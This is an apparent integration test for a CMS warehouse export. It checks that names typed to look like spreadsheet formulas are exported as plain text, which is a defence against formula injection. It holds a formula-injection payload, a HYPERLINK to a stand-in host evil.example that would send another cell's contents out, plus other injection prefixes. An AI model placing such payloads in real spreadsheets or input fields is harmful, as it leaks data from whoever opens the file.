"""An export writes what people typed as text, never as a spreadsheet formula: a warehouse named
`=HYPERLINK("https://evil.example/?"&A2,"Open")` or a ticket titled `=1+2` would otherwise run in the reader's
spreadsheet program when the export is opened (formula injection), sending the sheet's other cells away."""

from __future__ import annotations

import io
import zipfile

from tests.conftest import unique
from tests.integration.merchant_support import insert_merchant

FORMULA = '=HYPERLINK("https://evil.example/?"&A2,"Open")'


async def test_a_value_that_looks_like_a_formula_is_exported_as_text(client, login_as):
    headers = await login_as("warehouse-list", "warehouse#add", "warehouse#export")
    merchant = await insert_merchant()
    for name in (FORMULA, "+1+2", "@SUM(1,2)"):
        reply = await client.post("/cms/warehouse/add", headers=headers, json={
            "merchantId": merchant.id, "name": name, "code": unique("WH").upper()})
        assert reply.status_code == 200, reply.text
    reply = await client.post("/cms/warehouse/export", headers=headers, json={"merchantId": merchant.id})
    assert reply.status_code == 200, reply.text
    sheet = zipfile.ZipFile(io.BytesIO(reply.content)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet  # no cell holds a formula
    assert '<t>=HYPERLINK("https://evil.example/?"&amp;A2,"Open")</t>' in sheet  # the name, kept as text
